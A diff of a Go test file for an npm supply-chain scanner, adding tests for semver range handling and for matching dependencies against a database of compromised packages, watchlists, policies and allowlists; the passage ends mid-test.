@@ -1,11 +1,25 @@
 package matcher
 
 import (
+	"context"
+	"encoding/json"
+	"errors"
+	"fmt"
+	"os"
+	"path/filepath"
+	"reflect"
+	"sort"
+	"strconv"
+	"strings"
 	"testing"
 
+	"github.com/tuckertucker/tkr-npm-scan/go/pkg/allowlist"
 	"github.com/tuckertucker/tkr-npm-scan/go/pkg/formatter"
 	"github.com/tuckertucker/tkr-npm-scan/go/pkg/ioc"
 	"github.com/tuckertucker/tkr-npm-scan/go/pkg/parser"
+	"github.com/tuckertucker/tkr-npm-scan/go/pkg/policy"
+	"github.com/tuckertucker/tkr-npm-scan/go/pkg/typosquat"
+	"github.com/tuckertucker/tkr-npm-scan/go/pkg/watchlist"
 )
 
 // setupTestDB creates a test IoC database with known vulnerable packages
@@ -77,6 +91,17 @@ func TestMatchDirect(t *testing.T) {
 			expected: 1,
 			packages: []string{"@scope/pkg"},
 		},
+		{
+			name: "exact_match_npm_alias",
+			manifest: &parser.Manifest{
+				Dependencies: map[string]string{
+					"my-lodash": "npm:lodash@4.17.19",
+				},
+			},
+			filePath: "/test/package.json",
+			expected: 1,
+			packages: []string{"lodash"},
+		},
 		{
 			name: "no_match_safe_version",
 			manifest: &parser.Manifest{
@@ -373,6 +398,17 @@ func TestMatchPotential(t *testing.T) {
 			expected: 1,
 			packages: []string{"react"},
 		},
+		{
+			name: "npm_alias_range_matches_vulnerable",
+			manifest: &parser.Manifest{
+				Dependencies: map[string]string{
+					"my-express": "npm:express@~4.16.0",
+				},
+			},
+			filePath: "/test/package.json",
+			expected: 1,
+			packages: []string{"express"},
+		},
 		{
 			name: "range_does_not_match_vulnerable",
 			manifest: &parser.Manifest{
@@ -531,6 +567,8 @@ func TestIsExactVersion(t *testing.T) {
 		{">1.0.0", false},
 		{"1.x", false},
 		{"1.*", false},
+		{"1.2", false},
+		{"=1.0.0", true},
 	}
 
 	for _, tt := range tests {
@@ -555,6 +593,9 @@ func TestIsSemverRange(t *testing.T) {
 		{"1.0.0", true},
 		{"1.x", true},
 		{">1.0.0 <2.0.0", true},
+		{"1.0.0 - 2.0.0", true},
+		{"^1.0.0 || ^2.0.0", true},
+		{">=1.0.0, <2.0.0", false},
 		{"*", false},
 		{"latest", false},
 		{"file:../local", false},
@@ -574,6 +615,91 @@ func TestIsSemverRange(t *testing.T) {
 	}
 }
 
+// TestIsWideRange tests wide range classification
+func TestIsWideRange(t *testing.T) {
+	tests := []struct {
+		input    string
+		expected bool
+	}{
+		{"*", true},
+		{"latest", true},
+		{"", true},
+		{"^1.2.0", true},
+		{"^0.2.0", false},
+		{">=1.0.0", true},
+		{">1.0.0", true},
+		{">=1.0.0 <1.1.0", false},
+		{"1.x", true},
+		{"1.*", true},
+		{"1", true},
+		{"1.2.x", false},
+		{"1.2.3", false},
+		{"~1.2.0", false},
+		{"^1.0.0 || ^2.0.0", true},
+		{"file:../local", false},
+		{"git+https://github.com/user/repo.git", false},
+		{"user/repo#v1", false},
+		{"next", true},
+		{"~1", true},
+		{"~1.2", false},
+		{"^1", true},
+		{"^0.2", false},
+		{"^0.0.3", false},
+		{"<2.0.0", true},
+		{"<=1.0.0", true},
+		{">=1.2.0 <=1.2.9", false},
+		{"1.2.3 || 1.2.4", false},
+		{"npm:lodash@^4.17.0", true},
+		{"npm:@scope/pkg@1.2.3", false},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.input, func(t *testing.T) {
+			result := IsWideRange(tt.input)
+			if result != tt.expected {
+				t.Errorf("IsWideRange(%q) = %v, expected %v", tt.input, result, tt.expected)
+			}
+		})
+	}
+}
+
+// TestAuditHygiene tests unpinned dependency detection
+func TestAuditHygiene(t *testing.T) {
+	manifest := &parser.Manifest{
+		Dependencies: map[string]string{
+			"any":       "*",
+			"newest":    "latest",
+			"unbounded": ">=1.0.0",
+			"bounded":   ">=1.0.0 <2.0.0",
+			"caret":     "^1.0.0",
+			"pinned":    "1.0.0",
+		},
+		DevDependencies: map[string]string{
+			"either": "^1.0.0 || *",
+		},
+	}
+
+	findings := AuditHygiene(manifest, "/test/package.json")
+
+	expected := map[string]string{
+		"any":       ReasonWildcard,
+		"newest":    ReasonLatest,
+		"unbounded": ReasonUnbounded,
+		"either":    ReasonWildcard,
+	}
+	if len(findings) != len(expected) {
+		t.Fatalf("expected %d findings, got %d: %+v", len(expected), len(findings), findings)
+	}
+	for _, finding := range findings {
+		if finding.Severity != formatter.SeverityHygiene {
+			t.Errorf("expected HYGIENE severity, got %s", finding.Severity)
+		}
+		if reason, ok := expected[finding.PackageName]; !ok || reason != finding.Reason {
+			t.Errorf("unexpected finding %s: %s", finding.PackageName, finding.Reason)
+		}
+	}
+}
+
 // TestVersionSatisfiesRange tests semver constraint validation
 func TestVersionSatisfiesRange(t *testing.T) {
 	tests := []struct {
@@ -596,6 +722,28 @@ func TestVersionSatisfiesRange(t *testing.T) {
 		{"5.0.0", "^4.17.0", false},
 		{"3.3.1", ">=3.0.0 <4.0.0", true},
 		{"4.0.0", ">=3.0.0 <4.0.0", false},
+		// npm semantics
+		{"2.5.0", "^1.0.0 || ^2.0.0", true},
+		{"3.0.0", "^1.0.0 || ^2.0.0", false},
+		{"1.2.9", "1.2.x", true},
+		{"1.3.0", "1.2.x", false},
+		{"1.9.0", "1", true},
+		{"1.5.0", "1.0.0 - 2.0.0", true},
+		{"2.0.1", "1.0.0 - 2.0.0", false},
+		{"2.3.9", "1.2 - 2.3", true},
+		{"2.4.0", "1.2 - 2.3", false},
+		{"1.2.0", ">1.1", true},
+		{"1.1.9", ">1.1", false},
+		{"1.2.9", "<=1.2", true},
+		{"0.2.9", "^0.2.3", true},
+		{"0.3.0", "^0.2.3", false},
+		{"0.0.4", "^0.0.3", false},
+		{"1.3.0", ">= 1.2.3 < 2", true},
+		{"1.5.0-beta", "^1.0.0", false},
+		{"1.5.0-beta.2", "^1.5.0-beta.1", true},
+		{"1.6.0-beta", "^1.5.0-beta.1", false},
+		{"1.0.0-rc.1", "*", false},
+		{"1.0.0", "<0.0.0-0", false},
 	}
 
 	for _, tt := range tests {
@@ -610,6 +758,448 @@ func TestVersionSatisfiesRange(t *testing.T) {
 }
 
 // TestDeduplicateMatches tests duplicate removal
+// TestMatchResolved tests matching packages from an external inventory
+func TestMatchResolved(t *testing.T) {
+	db := setupTestDB(t)
+
+	packages := []parser.ResolvedPackage{
+		{Name: "@scope/pkg", Version: "1.0.1", LockfilePath: "bom.cdx.json"},
+		{Name: "lodash", Version: "4.17.21", LockfilePath: "bom.cdx.json"},
+	}
+
+	matches := MatchResolved(packages, db)
+	if len(matches) != 1 {
+		t.Fatalf("Expected 1 match, got %d", len(matches))
+	}
+	if matches[0].PackageName != "@scope/pkg" || matches[0].Severity != formatter.SeverityTransitive {
+		t.Errorf("Unexpected match: %+v", matches[0])
+	}
+	if matches[0].Location != "bom.cdx.json" {
+		t.Errorf("Expected location bom.cdx.json, got %s", matches[0].Location)
+	}
+}
+
+// TestMatchResolved_Range tests matching resolved versions against range-based IoC entries
+func TestMatchResolved_Range(t *testing.T) {
+	db, err := ioc.NewDatabase([]byte("Package,Version\nlodash,< 4.17.21\n"))
+	if err != nil {
+		t.Fatalf("Failed to create test database: %v", err)
+	}
+
+	packages := []parser.ResolvedPackage{
+		{Name: "lodash", Version: "4.17.20", LockfilePath: "package-lock.json"},
+		{Name: "lodash", Version: "4.17.21", LockfilePath: "other/package-lock.json"},
+	}
+
+	matches := MatchResolved(packages, db)
+	if len(matches) != 1 {
+		t.Fatalf("Expected 1 match, got %d: %+v", len(matches), matches)
+	}
+	if matches[0].Version != "4.17.20" || matches[0].IOCRange != "< 4.17.21" {
+		t.Errorf("Expected lodash@4.17.20 in range < 4.17.21, got %s (range %q)", matches[0].Version, matches[0].IOCRange)
+	}
+}
+
+// TestMatchAdvisory tests attaching IoC advisory metadata to matches
+func TestMatchAdvisory(t *testing.T) {
+	db, err := ioc.NewDatabase([]byte("Package,Version,GHSA,URL,Campaign\nevil,= 1.0.1,GHSA-aaaa-bbbb-cccc,https://example.com/advisory,shai-hulud-2\nplain,= 2.0.0,,,\n"))
+	if err != nil {
+		t.Fatalf("Failed to create test database: %v", err)
+	}
+
+	matches := MatchResolved([]parser.ResolvedPackage{
+		{Name: "evil", Version: "1.0.1", LockfilePath: "package-lock.json"},
+		{Name: "plain", Version: "2.0.0", LockfilePath: "package-lock.json"},
+	}, db)
+	if len(matches) != 2 {
+		t.Fatalf("Expected 2 matches, got %d", len(matches))
+	}
+
+	a := matches[0].Advisory
+	if a == nil || len(a.IDs) != 1 || a.IDs[0] != "GHSA-aaaa-bbbb-cccc" || a.URL != "https://example.com/advisory" || a.Campaign != "shai-hulud-2" {
+		t.Errorf("Unexpected advisory for evil@1.0.1: %+v", a)
+	}
+	if matches[1].Advisory != nil {
+		t.Errorf("Expected no advisory for plain@2.0.0, got %+v", matches[1].Advisory)
+	}
+}
+
+// TestMatchSources tests attaching every reporting source to a match
+func TestMatchSources(t *testing.T) {
+	csvDB, err := ioc.NewDatabase([]byte("Package,Version\nevil,= 1.0.1\nplain,= 2.0.0\n"))
+	if err != nil {
+		t.Fatalf("Failed to create test database: %v", err)
+	}
+	db := ioc.Merge(csvDB, ioc.NewDatabaseFromEntries([]ioc.Entry{
+		{Package: "evil", Version: "1.0.1", Advisory: ioc.Advisory{IDs: []string{"MAL-2025-1"}}, Source: ioc.SourceOSV},
+	}))
+
+	matches := MatchResolved([]parser.ResolvedPackage{
+		{Name: "evil", Version: "1.0.1", LockfilePath: "package-lock.json"},
+		{Name: "plain", Version: "2.0.0", LockfilePath: "package-lock.json"},
+	}, db)
+	if len(matches) != 2 {
+		t.Fatalf("Expected 2 matches, got %d", len(matches))
+	}
+
+	sources := matches[0].Sources
+	if len(sources) != 2 || sources[0].Source != ioc.SourceCSV || sources[1].Source != ioc.SourceOSV {
+		t.Fatalf("Unexpected sources for evil@1.0.1: %+v", sources)
+	}
+	if sources[1].Advisory == nil || sources[1].Advisory.IDs[0] != "MAL-2025-1" {
+		t.Errorf("Expected the OSV advisory on its source record, got %+v", sources[1].Advisory)
+	}
+	if len(matches[1].Sources) != 1 || matches[1].Sources[0].Source != ioc.SourceCSV {
+		t.Errorf("Unexpected sources for plain@2.0.0: %+v", matches[1].Sources)
+	}
+}
+
+// TestMatchIntegrity tests matching known-malicious tarball hashes regardless of version
+func TestMatchIntegrity(t *testing.T) {
+	db, err := ioc.NewDatabase([]byte("Package,Version,SHA1\nevil-pkg,= 1.0.0,da39a3ee5e6b4b0d3255bfef95601890afd80709\n"))
+	if err != nil {
+		t.Fatalf("Failed to create test database: %v", err)
+	}
+
+	packages := []parser.ResolvedPackage{
+		// Same tarball republished under a different name and version
+		{Name: "innocent-pkg", Version: "2.0.0", LockfilePath: "package-lock.json", Integrity: "sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk="},
+		{Name: "evil-pkg", Version: "1.0.0", LockfilePath: "package-lock.json", Integrity: "sha512-AAAA"},
+		{Name: "no-integrity", Version: "1.0.0", LockfilePath: "package-lock.json"},
+	}
+
+	matches := MatchIntegrity(packages, db)
+	if len(matches) != 1 {
+		t.Fatalf("Expected 1 match, got %d: %+v", len(matches), matches)
+	}
+	if matches[0].PackageName != "innocent-pkg" || matches[0].Version != "2.0.0" {
+		t.Errorf("Expected innocent-pkg@2.0.0, got %s@%s", matches[0].PackageName, matches[0].Version)
+	}
+	if matches[0].Severity != formatter.SeverityTransitive || matches[0].Integrity == "" {
+		t.Errorf("Unexpected match: %+v", matches[0])
+	}
+}
+
+func TestMatchManifestAndLockfile(t *testing.T) {
+	db, err := ioc.NewDatabase([]byte("Package,Version\nevil,= 1.0.1\nchalk,= 5.6.1\n"))
+	if err != nil {
+		t.Fatalf("Failed to create test database: %v", err)
+	}
+
+	manifest := &parser.Manifest{
+		Dependencies:    map[string]string{"evil": "1.0.1", "chalk": "^5.0.0"},
+		DevDependencies: map[string]string{"evil": "1.0.1"},
+	}
+	matches := MatchManifest(manifest, db, "generated/package.json")
+	if len(matches) != 2 {
+		t.Fatalf("Expected deduplicated DIRECT and POTENTIAL matches, got %+v", matches)
+	}
+	if matches[0].Severity != formatter.SeverityDirect || matches[1].Severity != formatter.SeverityPotential {
+		t.Errorf("Unexpected matches: %+v", matches)
+	}
+	if matches[0].Location != "generated/package.json" {
+		t.Errorf("Expected the given location, got %s", matches[0].Location)
+	}
+
+	lockfile := &parser.Lockfile{
+		Version: 3,
+		Packages: map[string]parser.PackageInfo{
+			"":                   {},
+			"node_modules/chalk": {Version: "5.6.1"},
+			"node_modules/other": {Version: "1.0.0"},
+		},
+	}
+	matches = MatchLockfile(lockfile, db, "generated/package-lock.json")
+	if len(matches) != 1 || matches[0].PackageName != "chalk" || matches[0].Severity != formatter.SeverityTransitive {
+		t.Errorf("Expected a TRANSITIVE chalk match, got %+v", matches)
+	}
+}
+
+func TestMatchOverrides(t *testing.T) {
+	db, err := ioc.NewDatabase([]byte("Package,Version\nevil,= 1.0.1\nchalk,= 5.6.1\n"))
+	if err != nil {
+		t.Fatalf("Failed to create test database: %v", err)
+	}
+
+	manifest := &parser.Manifest{
+		Dependencies: map[string]string{"safe": "1.0.0"},
+		Overrides:    json.RawMessage(`{"safe": {"evil": "1.0.1"}}`),
+		Resolutions:  json.RawMessage(`{"**/chalk": "^5.6.0"}`),
+	}
+
+	direct := MatchDirect(manifest, db, "package.json")
+	if len(direct) != 1 || direct[0].PackageName != "evil" || direct[0].Override != "overrides > safe > evil" {
+		t.Errorf("Expected a DIRECT evil match from the override, got %+v", direct)
+	}
+
+	potential := MatchPotential(manifest, db, "package.json")
+	if len(potential) != 1 || potential[0].PackageName != "chalk" || potential[0].Override != "resolutions > **/chalk" {
+		t.Errorf("Expected a POTENTIAL chalk match from the resolution, got %+v", potential)
+	}
+	if len(potential) == 1 && potential[0].DeclaredSpec != "^5.6.0" {
+		t.Errorf("Expected the forced range as declared spec, got %q", potential[0].DeclaredSpec)
+	}
+}
+
+func TestMatchContext(t *testing.T) {
+	db, err := ioc.NewDatabase([]byte("Package,Version,SHA1\nevil,= 1.0.1,da39a3ee5e6b4b0d3255bfef95601890afd80709\nchalk,= 5.6.1,\n"))
+	if err != nil {
+		t.Fatalf("Failed to create test database: %v", err)
+	}
+	manifest := &parser.Manifest{Dependencies: map[string]string{"evil": "1.0.1", "chalk": "^5.0.0"}}
+	lockfile := &parser.Lockfile{
+		Version:  3,
+		Packages: map[string]parser.PackageInfo{"": {}, "node_modules/chalk": {Version: "5.6.1"}},
+	}
+	packages := []parser.ResolvedPackage{
+		{Name: "evil", Version: "1.0.1", LockfilePath: "package-lock.json", Integrity: "sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk="},
+	}
+
+	tests := []struct {
+		name  string
+		match func(ctx context.Context) ([]formatter.Match, error)
+		want  []formatter.Match
+	}{
+		{
+			name: "direct",
+			match: func(ctx context.Context) ([]formatter.Match, error) {
+				return MatchDirectContext(ctx, manifest, db, "package.json")
+			},
+			want: MatchDirect(manifest, db, "package.json"),
+		},
+		{
+			name: "potential",
+			match: func(ctx context.Context) ([]formatter.Match, error) {
+				return MatchPotentialContext(ctx, manifest, db, "package.json")
+			},
+			want: MatchPotential(manifest, db, "package.json"),
+		},
+		{
+			name: "transitive",
+			match: func(ctx context.Context) ([]formatter.Match, error) {
+				return MatchTransitiveContext(ctx, lockfile, db, "package-lock.json")
+			},
+			want: MatchTransitive(lockfile, db, "package-lock.json"),
+		},
+		{
+			name:  "resolved",
+			match: func(ctx context.Context) ([]formatter.Match, error) { return MatchResolvedContext(ctx, packages, db) },
+			want:  MatchResolved(packages, db),
+		},
+		{
+			name:  "integrity",
+			match: func(ctx context.Context) ([]formatter.Match, error) { return MatchIntegrityContext(ctx, packages, db) },
+			want:  MatchIntegrity(packages, db),
+		},
+	}
+
+	canceled, cancel := context.WithCancel(context.Background())
+	cancel()
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := tt.match(context.Background())
+			if err != nil {
+				t.Fatalf("Unexpected error: %v", err)
+			}
+			if len(got) != 1 || !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("Got %+v, want the single match %+v", got, tt.want)
+			}
+
+			got, err = tt.match(canceled)
+			if !errors.Is(err, context.Canceled) || got != nil {
+				t.Errorf("Expected context.Canceled and no matches, got %v, %+v", err, got)
+			}
+		})
+	}
+}
+
+func TestMatchBundled(t *testing.T) {
+	db, err := ioc.NewDatabase([]byte("Package,Version\nevil,= 1.0.1\n@scope/bad,= 2.0.0\n"))
+	if err != nil {
+		t.Fatalf("Failed to create test database: %v", err)
+	}
+
+	dir := t.TempDir()
+	installed := map[string]string{
+		"evil":       `{"name": "evil", "version": "1.0.1"}`,
+		"@scope/bad": `{"name": "@scope/bad", "version": "2.0.1"}`,
+		"noversion":  `{"name": "noversion"}`,
+	}
+	for name, content := range installed {
+		pkgDir := filepath.Join(dir, "node_modules", filepath.FromSlash(name))
+		if err := os.MkdirAll(pkgDir, 0755); err != nil {
+			t.Fatal(err)
+		}
+		if err := os.WriteFile(filepath.Join(pkgDir, "package.json"), []byte(content), 0644); err != nil {
+			t.Fatal(err)
+		}
+	}
+
+	manifest := &parser.Manifest{BundledDependencies: []string{"evil", "@scope/bad", "noversion", "missing"}}
+	manifestPath := filepath.Join(dir, "package.json")
+	matches, unchecked := MatchBundled(manifest, db, manifestPath)
+
+	if len(matches) != 1 || matches[0].PackageName != "evil" || matches[0].Severity != formatter.SeverityTransitive {
+		t.Fatalf("Expected a TRANSITIVE evil match, got %+v", matches)
+	}
+	if want := filepath.Join(dir, "node_modules", "evil", "package.json"); matches[0].Location != want {
+		t.Errorf("Location = %s, want the installed package.json %s", matches[0].Location, want)
+	}
+
+	var names []string
+	for _, finding := range unchecked {
+		if finding.Severity != formatter.SeverityUncheckedBundled || finding.Location != manifestPath || finding.Reason != ReasonUncheckedBundled {
+			t.Errorf("Unexpected finding: %+v", finding)
+		}
+		names = append(names, finding.PackageName)
+	}
+	if want := []string{"noversion", "missing"}; !reflect.DeepEqual(names, want) {
+		t.Errorf("Unchecked = %v, want %v", names, want)
+	}
+}
+
+func TestMatchInstalled(t *testing.T) {
+	locked := []parser.ResolvedPackage{
+		{Name: "chalk", Version: "5.6.0"},
+		{Name: "debug", Version: "4.3.4"},
+		{Name: "debug", Version: "2.6.9"},
+	}
+	installed := []parser.ResolvedPackage{
+		{Name: "chalk", Version: "5.6.1", LockfilePath: "node_modules/chalk/package.json"},
+		{Name: "debug", Version: "2.6.9", LockfilePath: "node_modules/send/node_modules/debug/package.json"},
+		{Name: "debug", Version: "4.3.4", LockfilePath: "node_modules/debug/package.json"},
+		{Name: "extra", Version: "1.0.0", LockfilePath: "node_modules/extra/package.json"},
+	}
+
+	want := []formatter.Match{
+		{PackageName: "chalk", Version: "5.6.1", Severity: formatter.SeverityShadowed, Location: "node_modules/chalk/package.json", Reason: ReasonInstalledMismatch, LockedVersion: "5.6.0"},
+		{PackageName: "extra", Version: "1.0.0", Severity: formatter.SeverityShadowed, Location: "node_modules/extra/package.json", Reason: ReasonNotLocked},
+	}
+	if got := MatchInstalled(installed, locked); !reflect.DeepEqual(got, want) {
+		t.Errorf("MatchInstalled() = %+v, want %+v", got, want)
+	}
+}
+
+// TestMatchWatchlist tests watchlist matching of declared and resolved packages
+func TestMatchWatchlist(t *testing.T) {
+	list, err := watchlist.New([]string{"@mycorp-*", "*-utils-js"})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	deps := []parser.Dependency{
+		{Name: "@mycorp-ui/button", VersionSpec: "^2.0.0", FilePath: "package.json"},
+		{Name: "lodash", VersionSpec: "4.17.21", FilePath: "package.json"},
+		{Name: "lodash", VersionSpec: "4.17.21", FilePath: "package.json", Alias: "string-utils-js"},
+	}
+	wantDeclared := []formatter.Match{
+		{PackageName: "@mycorp-ui/button", Severity: formatter.SeverityWatchlist, Location: "package.json", DeclaredSpec: "^2.0.0", Reason: "name matches watchlist pattern @mycorp-*"},
+		{PackageName: "lodash", Severity: formatter.SeverityWatchlist, Location: "package.json", DeclaredSpec: "4.17.21", Alias: "string-utils-js", Reason: "name matches watchlist pattern *-utils-js"},
+	}
+	if got := MatchWatchlistDeclared(deps, list); !reflect.DeepEqual(got, wantDeclared) {
+		t.Errorf("MatchWatchlistDeclared() = %+v, want %+v", got, wantDeclared)
+	}
+
+	// Listed out of order, as lockfile parsers may
+	packages := []parser.ResolvedPackage{
+		{Name: "array-utils-js", Version: "2.0.0", LockfilePath: "package-lock.json"},
+		{Name: "array-utils-js", Version: "1.0.0", LockfilePath: "package-lock.json"},
+		{Name: "array-utils-js", Version: "1.0.0", LockfilePath: "package-lock.json"},
+		{Name: "chalk", Version: "5.6.0", LockfilePath: "package-lock.json"},
+	}
+	wantResolved := []formatter.Match{
+		{PackageName: "array-utils-js", Version: "1.0.0", Severity: formatter.SeverityWatchlist, Location: "package-lock.json", Reason: "name matches watchlist pattern *-utils-js"},
+		{PackageName: "array-utils-js", Version: "2.0.0", Severity: formatter.SeverityWatchlist, Location: "package-lock.json", Reason: "name matches watchlist pattern *-utils-js"},
+	}
+	if got := MatchWatchlistResolved(packages, list); !reflect.DeepEqual(got, wantResolved) {
+		t.Errorf("MatchWatchlistResolved() = %+v, want %+v", got, wantResolved)
+	}
+
+	if got := MatchWatchlistResolved(packages, nil); len(got) != 0 {
+		t.Errorf("MatchWatchlistResolved() without a watchlist = %+v, want none", got)
+	}
+}
+
+func TestMatchPolicy(t *testing.T) {
+	required, err := policy.New([]string{"lodash@>=4.17.21", "@scope/pkg@^2.3.1 || >=3.0.0"})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	deps := []parser.Dependency{
+		{Name: "lodash", VersionSpec: "4.17.20", FilePath: "package.json"},
+		{Name: "lodash", VersionSpec: "^4.17.0", FilePath: "package.json"},
+		{Name: "lodash", VersionSpec: "=4.17.21", FilePath: "package.json"},
+		{Name: "chalk", VersionSpec: "1.0.0", FilePath: "package.json"},
+	}
+	wantDeclared := []formatter.Match{
+		{PackageName: "lodash", Version: "4.17.20", Severity: formatter.SeverityPolicy, Location: "package.json", DeclaredSpec: "4.17.20", Required: ">=4.17.21", Reason: "version does not satisfy required lodash@>=4.17.21"},
+	}
+	if got := MatchPolicyDeclared(deps, required); !reflect.DeepEqual(got, wantDeclared) {
+		t.Errorf("MatchPolicyDeclared() = %+v, want %+v", got, wantDeclared)
+	}
+
+	packages := []parser.ResolvedPackage{
+		{Name: "lodash", Version: "4.17.11", LockfilePath: "package-lock.json"},
+		{Name: "lodash", Version: "4.17.11", LockfilePath: "package-lock.json"},
+		{Name: "lodash", Version: "4.17.21", LockfilePath: "package-lock.json"},
+		{Name: "@scope/pkg", Version: "2.3.0", LockfilePath: "yarn.lock"},
+		{Name: "@scope/pkg", Version: "3.1.0", LockfilePath: "yarn.lock"},
+		{Name: "@scope/pkg", Version: "github:scope/pkg#main", LockfilePath: "yarn.lock"},
+	}
+	wantResolved := []formatter.Match{
+		{PackageName: "lodash", Version: "4.17.11", Severity: formatter.SeverityPolicy, Location: "package-lock.json", Required: ">=4.17.21", Reason: "version does not satisfy required lodash@>=4.17.21"},
+		{PackageName: "@scope/pkg", Version: "2.3.0", Severity: formatter.SeverityPolicy, Location: "yarn.lock", Required: "^2.3.1 || >=3.0.0", Reason: "version does not satisfy required @scope/pkg@^2.3.1 || >=3.0.0"},
+	}
+	if got := MatchPolicyResolved(packages, required); !reflect.DeepEqual(got, wantResolved) {
+		t.Errorf("MatchPolicyResolved() = %+v, want %+v", got, wantResolved)
+	}
+
+	if got := MatchPolicyResolved(packages, nil); len(got) != 0 {
+		t.Errorf("MatchPolicyResolved() without a policy = %+v, want none", got)
+	}
+}
+
+func TestMatchUnapproved(t *testing.T) {
+	approved, err := allowlist.New([]string{"lodash", "@mycorp"})
+	if err != nil {
+		t.Fatal(err)
+	}
+
+	deps := []parser.Dependency{
+		{Name: "lodash", VersionSpec: "^4.17.21", FilePath: "package.json"},
+		{Name: "@mycorp/ui", VersionSpec: "1.0.0", FilePath: "package.json"},
+		{Name: "left-pad", VersionSpec: "^1.3.0", FilePath: "package.json"},
+		{Name: "evil", VersionSpec: "npm:evil@1.0.1", FilePath: "package.json", Alias: "lodash-compat"},
+	}
+	wantDeclared := []formatter.Match{
+		{PackageName: "left-pad", Severity: formatter.SeverityUnapproved, Location: "package.json", DeclaredSpec: "^1.3.0", Reason: "package is not on the allowlist"},
+		{PackageName: "evil", Severity: formatter.SeverityUnapproved, Location: "package.json", DeclaredSpec: "npm:evil@1.0.1", Alias: "lodash-compat", Reason: "package is not on the allowlist"},
+	}
+	if got := MatchUnapprovedDeclared(deps, approved); !reflect.DeepEqual(got, wantDeclared) {
+		t.Errorf("MatchUnapprovedDeclared() = %+v, want %+v", got, wantDeclared)
+	}
+
+	packages := []parser.ResolvedPackage{
+		{Name: "lodash", Version: "4.17.21", LockfilePath: "package-lock.json"},
+		{Name: "@mycorp/core", Version: "2.0.0", LockfilePath: "package-lock.json"},
+		{Name: "left-pad", Version: "1.3.0", LockfilePath: "package-lock.json"},
+		{Name: "left-pad", Version: "1.3.0", LockfilePath: "package-lock.json"},
+		{Name: "left-pad", Version: "1.3.0", LockfilePath: "web/package-lock.json"},
+	}
+	wantResolved := []formatter.Match{
+		{PackageName: "left-pad", Version: "1.3.0", Severity: formatter.SeverityUnapproved, Location: "package-lock.json", Reason: "package is not on the allowlist"},
+		{PackageName: "left-pad", Version: "1.3.0", Severity: formatter.SeverityUnapproved, Location: "web/package-lock.json", Reason: "package is not on the allowlist"},
+	}
+	if got := MatchUnapprovedResolved(packages, approved); !reflect.DeepEqual(got, wantResolved) {
+		t.Errorf("MatchUnapprovedResolved() = %+v, want %+v", got, wantResolved)
+	}
+
+	if got := MatchUnapprovedResolved(packages, nil); len(got) != 0 {
+		t.Errorf("MatchUnapprovedResolved() without an allowlist = %+v, want none", got)
+	}
+}
+
 func TestDeduplicateMatches(t *testing.T) {
 	matches := []formatter.Match{
 		{PackageName: "lodash", Version: "4.17.19", Severity: formatter.SeverityDirect},
@@ -638,6 +1228,29 @@ func TestDeduplicateMatches(t *testing.T) {
 	}
 }
 
+// TestDeduplicateMatches_Evidence tests that dropped duplicates keep their
+// occurrences as evidence on the kept match
+func TestDeduplicateMatches_Evidence(t *testing.T) {
+	kept := []formatter.Evidence{{File: "a/package.json", Line: 3}}
+	matches := []formatter.Match{
+		{PackageName: "evil", Version: "1.0.1", Severity: formatter.SeverityDirect, Location: "a/package.json", Evidence: kept},
+		{PackageName: "evil", Version: "1.0.1", Severity: formatter.SeverityDirect, Location: "b/package.json", Evidence: []formatter.Evidence{{File: "b/package.json", Line: 7}}},
+		{PackageName: "evil", Version: "1.0.1", Severity: formatter.SeverityDirect, Location: "a/package.json", Evidence: []formatter.Evidence{{File: "a/package.json", Line: 3}}},
+	}
+
+	result := DeduplicateMatches(matches)
+	if len(result) != 1 {
+		t.Fatalf("Expected 1 match, got %d", len(result))
+	}
+	want := []formatter.Evidence{{File: "a/package.json", Line: 3}, {File: "b/package.json", Line: 7}}
+	if !reflect.DeepEqual(result[0].Evidence, want) {
+		t.Errorf("Evidence = %+v, want %+v", result[0].Evidence, want)
+	}
+	if len(kept) != 1 || cap(kept) != 1 {
+		t.Error("DeduplicateMatches modified the evidence of its input")
+	}
+}
+
 // TestMatcherIntegration tests all three matchers working together
 func TestMatcherIntegration(t *testing.T) {
 	db := setupTestDB(t)
@@ -703,3 +1316,216 @@ func TestMatcherIntegration(t *testing.T) {
 		t.Errorf("Expected 4 unique matches after dedup, got %d", len(uniqueMatches))
 	}
 }
+
+func TestCheckPackage(t *testing.T) {
+	db, err := ioc.NewDatabase([]byte("Package,Version,GHSA,URL,Campaign,Date Added\nevil,= 1.0.1,GHSA-aaaa-bbbb-cccc,,shai-hulud-2,2025-11-24\nlodash,< 4.17.21,,,,\n"))
+	if err != nil {
+		t.Fatalf("Failed to create test database: %v", err)
+	}
+
+	tests := []struct {
+		name, pkg, version string
+		compromised        bool
+		iocRange           string
+	}{
+		{"exact pin", "evil", "1.0.1", true, ""},
+		{"other version", "evil", "1.0.2", false, ""},
+		{"in range", "lodash", "4.17.19", true, "< 4.17.21"},
+		{"outside range", "lodash", "4.17.21", false, ""},
+		{"unknown package", "left-pad", "1.3.0", false, ""},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			check := CheckPackage(db, tt.pkg, tt.version)
+			if check.Package != tt.pkg || check.Version != tt.version {
+				t.Errorf("CheckPackage() = %s@%s, want %s@%s", check.Package, check.Version, tt.pkg, tt.version)
+			}
+			if check.Compromised != tt.compromised || check.IOCRange != tt.iocRange {
+				t.Errorf("CheckPackage() = compromised %v, range %q, want %v, %q", check.Compromised, check.IOCRange, tt.compromised, tt.iocRange)
+			}
+			if !tt.compromised && (check.Advisory != nil || check.Sources != nil || check.IOCAdded != nil) {
+				t.Errorf("Expected no details for a clean version, got %+v", check)
+			}
+		})
+	}
+
+	check := CheckPackage(db, "evil", "1.0.1")
+	if check.Advisory == nil || check.Advisory.Campaign != "shai-hulud-2" || len(check.Sources) != 1 || check.IOCAdded == nil {
+		t.Errorf("Expected advisory, source and IoC date for evil@1.0.1, got %+v", check)
+	}
+
+	if CheckPackage(nil, "evil", "1.0.1").Compromised {
+		t.Error("Expected a nil database to list nothing")
+	}
+}
+
+// TestMatchCompromisedScope tests that every dependency under a compromised
+// scope is matched, whatever its version
+func TestMatchCompromisedScope(t *testing.T) {
+	db, err := ioc.NewDatabase([]byte("Package,Version\n@ctrl/*,= *\n@nativescript/*,>= 2.0.0 <2.1.0\n"))
+	if err != nil {
